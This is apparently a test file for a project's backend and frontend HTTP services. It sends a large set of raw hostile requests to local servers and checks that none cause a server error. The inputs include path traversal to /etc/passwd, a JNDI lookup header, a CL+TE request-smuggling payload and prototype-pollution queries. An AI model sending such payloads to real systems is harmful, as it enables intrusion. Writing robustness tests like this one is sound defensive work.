/**
 * The services' HTTP endpoints (backend, frontend) behind their real server (createGracefulServer),
 * fed raw requests a client can send: hostile request targets, methods, headers and bodies, several
 * in flight at once. None may crash the server or get a 5xx, and a plain GET still works after.
 */
import net from 'node:net';
import { createLogger } from '../../shared/logging';
import { createBackendHandler } from '../../services/backend/app';
import { createFrontendHandler } from '../../services/frontend/app';
import { createGracefulServer, type GracefulServer } from '../../services/lib/graceful-server';
import { injections } from './corpus';

const logger = createLogger({ name: 'hostile-services', level: 'silent' });
const instance = {
  id: '1',
  name: 'backend-1',
  hostname: 'backend-1',
  zone: 'us-central1-a',
  project: 'ilb-test',
  internalIp: '10.0.0.2',
  machineType: 'e2-small',
  tags: [],
  instanceGroup: 'backend',
};

/** Raw HTTP/1.1 requests, built in code: what no `fetch` would send. */
function rawRequests(): { label: string; text: Buffer }[] {
  const out: { label: string; text: Buffer }[] = [];
  const req = (label: string, head: string, body = '') =>
    out.push({ label, text: Buffer.concat([Buffer.from(head, 'latin1'), Buffer.from(body)]) });
  const targets = [
    '/',
    '/healthz',
    '//[',
    '//a:99999/',
    'http://[::1',
    'http://evil.example/',
    '*',
    '/?format=json',
    '/?format=json&format=json',
    '/?format[]=json',
    '/?__proto__[format]=json',
    '/%',
    '/%zz',
    '/..%2f..%2fetc/passwd',
    '/../../etc/passwd',
    `/${'a'.repeat(8000)}`,
    ...injections.map((i) => `/${encodeURI(i.replace(/[\ud800-\udfff]/g, '?'))}`),
    ...injections.map((i) => `/?format=${encodeURIComponent(i.replace(/[\ud800-\udfff]/g, '?'))}`),
  ];
  for (const t of targets) {
    req(`GET ${t.slice(0, 30)}`, `GET ${t} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
  }
  // The same injections unencoded, as UTF-8 bytes in the request line and in a header.
  for (const i of injections) {
    const bytes = Buffer.from(i, 'utf8').toString('latin1');
    req(`raw target ${i.slice(0, 24)}`, `GET /${bytes} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
    req(
      `raw header ${i.slice(0, 24)}`,
      `GET / HTTP/1.1\r\nHost: x\r\nX-Hostile: ${bytes}\r\nConnection: close\r\n\r\n`,
    );
  }
  for (const m of ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND', 'X'])
    req(`${m} /`, `${m} / HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nConnection: close\r\n\r\n`, '{}');
  req('HEAD /', 'HEAD / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
  const headers = [
    'Host: {{ key "x" }}',
    'Host: ../../etc',
    'Host:',
    'X-Forwarded-For: 127.0.0.1, ${jndi:ldap://x/a}',
    `Cookie: ${'c'.repeat(10_000)}`,
    'Accept: */*; q=NaN',
    'Content-Type: application/json; charset=x-evil',
    'Transfer-Encoding: chunked',
    'Content-Length: -1',
    'Content-Length: 99999999999',
    'Expect: 100-continue',
    'Upgrade: websocket',
    '__proto__: x',
    'constructor: x',
  ];
  for (const h of headers)
    req(`header ${h.slice(0, 30)}`, `GET /?format=json HTTP/1.1\r\n${h}\r\nConnection: close\r\n\r\n`);
  req('HTTP/1.0 without Host', 'GET / HTTP/1.0\r\n\r\n');
  req('HTTP/9.9', 'GET / HTTP/9.9\r\nHost: x\r\n\r\n');
  req('no version', 'GET /\r\n\r\n');
  req('garbage line', 'hello world\r\n\r\n');
  req('binary', '\u0000\u0001\u00ff\r\n\r\n');
  req('LF only', 'GET / HTTP/1.1\nHost: x\n\n');
  req('truncated', 'GET / HTTP/1.1\r\nHost: x\r\n');
  req('obs-fold header', 'GET / HTTP/1.1\r\nHost: x\r\nX-A: a\r\n b\r\nConnection: close\r\n\r\n');
  req(
    'smuggling CL+TE',
    'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n',
    '0\r\n\r\nGET /x HTTP/1.1\r\n\r\n',
  );
  req(
    'pipelined',
    'GET / HTTP/1.1\r\nHost: x\r\n\r\nGET //[ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  );
  return out;
}

/** Sends raw bytes; resolves with every status line the server answered (or none when it hung up). */
function sendRaw(port: number, text: Buffer): Promise<number[]> {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1', () => socket.end(text));
    let data = '';
    socket.on('data', (d: Buffer) => (data += d.toString('latin1')));
    const done = () => resolve([...data.matchAll(/HTTP\/1\.[01] (\d{3})/g)].map((m) => Number(m[1])));
    socket.setTimeout(10_000, () => socket.destroy());
    socket.on('close', done);
    socket.on('error', () => undefined);
  });
}

const servers: GracefulServer[] = [];
afterAll(async () => {
  await Promise.all(servers.map((s) => s.shutdown(1000)));
});

test.each([
  [
    'backend',
    () =>
      createBackendHandler({
        instance: async () => instance,
        consulNode: async () => ({ node: 'backend-1', nodeId: 'x', datacenter: 'dc1', meta: {} }),
        logger,
      }),
  ],
  [
    'frontend',
    () =>
      createFrontendHandler({
        zone: async () => 'us-central1-a',
        resolve: async () => ['10.0.0.3'],
        fetchUpstream: async () => ({
          status: 200,
          body: JSON.stringify({ instance, consul: null }),
          haproxyNode: 'haproxy-1',
          haproxyServer: 'z1',
        }),
        now: () => 0,
        logger,
      }),
  ],
])('%s: hostile raw requests get no 5xx, and it still serves after', async (name, handler) => {
  const errors: unknown[] = [];
  const server = createGracefulServer(handler(), (err) => errors.push(err));
  servers.push(server);
  const port = await server.listen('127.0.0.1', 0);
  const inputs = rawRequests();
  const answers: { label: string; statuses: number[] }[] = [];
  const queue = [...inputs];
  await Promise.all(
    Array.from({ length: 8 }, async () => {
      for (let item = queue.shift(); item; item = queue.shift())
        answers.push({ label: item.label, statuses: await sendRaw(port, item.text) });
    }),
  );
  const byStatus: Record<string, number> = {};
  for (const a of answers)
    for (const s of a.statuses.length ? a.statuses : [0]) byStatus[s] = (byStatus[s] ?? 0) + 1;
  console.log(
    `hostile-input suite, ${name}: ${inputs.length} raw requests, answers ${JSON.stringify(byStatus)}`,
  );

  expect(inputs.length).toBeGreaterThanOrEqual(200);
  // Node refuses what is no HTTP (400, 431, 505) or hangs up; the handler answers the rest.
  expect(answers.filter((a) => a.statuses.some((s) => s >= 500 && s !== 505)).map((a) => a.label)).toEqual(
    [],
  );
  expect(errors).toEqual([]);
  expect(await sendRaw(port, Buffer.from('GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'))).toEqual([
    200,
  ]);
});
